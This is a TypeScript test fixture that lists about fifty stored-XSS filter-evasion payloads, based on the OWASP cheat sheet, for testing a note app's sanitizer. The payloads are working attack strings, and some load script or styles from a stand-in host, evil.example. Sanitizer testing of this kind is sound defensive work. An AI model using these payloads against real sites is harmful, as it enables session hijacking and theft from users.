/**
 * Stored-XSS evasion payloads, after the OWASP XSS filter evasion cheat sheet and the advisories
 * of other note apps (Memos CVE-2022-4609, Joplin CVE-2020-15930). Used by the security suite
 * (what the server stores) and the browser suite (what a browser does when it shows the note).
 */
export interface XssPayload {
  name: string;
  payload: string;
}

export const xssPayloads: readonly XssPayload[] = [
  { name: 'script tag', payload: '<script>alert(1)</script>' },
  { name: 'script tag with src', payload: '<script src="https://evil.example/x.js"></script>' },
  { name: 'mixed-case script', payload: '<ScRiPt>alert(1)</sCrIpT>' },
  { name: 'nested script split', payload: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'unclosed script', payload: '<script>alert(1)' },
  { name: 'img onerror', payload: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror, no quotes or spaces', payload: '<img/src="x"/onerror=alert(1)>' },
  { name: 'body onload', payload: '<body onload=alert(1)>' },
  { name: 'p onclick', payload: '<p onclick="alert(1)">click</p>' },
  { name: 'p onmouseover with tab', payload: '<p\tonmouseover="alert(1)">hover</p>' },
  { name: 'details ontoggle', payload: '<details open ontoggle=alert(1)>' },
  { name: 'input autofocus onfocus', payload: '<input autofocus onfocus=alert(1)>' },
  { name: 'javascript: link', payload: '<a href="javascript:alert(1)">x</a>' },
  { name: 'JaVaScRiPt: link', payload: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: 'javascript: with tab', payload: '<a href="jav\tascript:alert(1)">x</a>' },
  { name: 'javascript: with leading space', payload: '<a href=" javascript:alert(1)">x</a>' },
  {
    name: 'entity-encoded javascript:',
    payload:
      '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  },
  { name: 'hex-entity javascript:', payload: '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>' },
  { name: 'vbscript: link', payload: '<a href="vbscript:msgbox(1)">x</a>' },
  {
    name: 'data:text/html link',
    payload: '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  },
  {
    name: 'data:text/html base64 link',
    payload: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  {
    name: 'data:image/svg+xml img',
    payload: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  },
  { name: 'javascript: img src', payload: '<img src="javascript:alert(1)">' },
  { name: 'svg onload', payload: '<svg onload=alert(1)>' },
  { name: 'svg script', payload: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg animate href',
    payload:
      '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>',
  },
  { name: 'math link', payload: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>' },
  { name: 'iframe javascript:', payload: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: 'iframe srcdoc', payload: '<iframe srcdoc="<script>alert(1)</script>"></iframe>' },
  { name: 'object data', payload: '<object data="javascript:alert(1)"></object>' },
  { name: 'embed', payload: '<embed src="https://evil.example/x.swf">' },
  { name: 'form action', payload: '<form action="javascript:alert(1)"><button>x</button></form>' },
  {
    name: 'meta refresh',
    payload: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  },
  { name: 'base href', payload: '<base href="https://evil.example/">' },
  { name: 'link stylesheet', payload: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: 'style tag import', payload: '<style>@import "https://evil.example/x.css";</style>' },
  {
    name: 'style tag expression',
    payload: '<style>p{background:url("javascript:alert(1)")}</style>',
  },
  {
    name: 'style attribute url()',
    payload: '<p style="background-image:url(https://evil.example/track.png)">x</p>',
  },
  { name: 'style attribute expression()', payload: '<p style="width:expression(alert(1))">x</p>' },
  {
    name: 'style attribute javascript url',
    payload: '<span style="background:url(javascript:alert(1))">x</span>',
  },
  {
    name: 'style attribute position overlay',
    payload: '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
  },
  { name: 'broken markup: unclosed attribute', payload: '<img src="x onerror=alert(1)//' },
  { name: 'broken markup: extra <', payload: '<<script>alert(1);//<</script>' },
  {
    name: 'broken markup: comment breakout',
    payload: '<!--<img src="--><img src=x onerror=alert(1)//">',
  },
  { name: 'CDATA', payload: '<![CDATA[<script>alert(1)</script>]]>' },
  { name: 'entity-encoded script', payload: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  { name: 'double entity-encoded img', payload: '&amp;lt;img src=x onerror=alert(1)&amp;gt;' },
  {
    name: 'noscript breakout',
    payload: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  { name: 'template', payload: '<template><script>alert(1)</script></template>' },
  { name: 'textarea breakout', payload: '</textarea><script>alert(1)</script>' },
  { name: 'title breakout', payload: '</title><script>alert(1)</script>' },
  {
    name: 'a target and formaction',
    payload:
      '<a href="https://example.com" onclick="alert(1)" formaction="javascript:alert(1)">ok</a>',
  },
  { name: 'null byte in tag', payload: '<scri\u0000pt>alert(1)</scri\u0000pt>' },
  {
    name: 'unicode-escaped script in attribute',
    payload: '<a href="java\u0073cript:alert(1)">x</a>',
  },
];
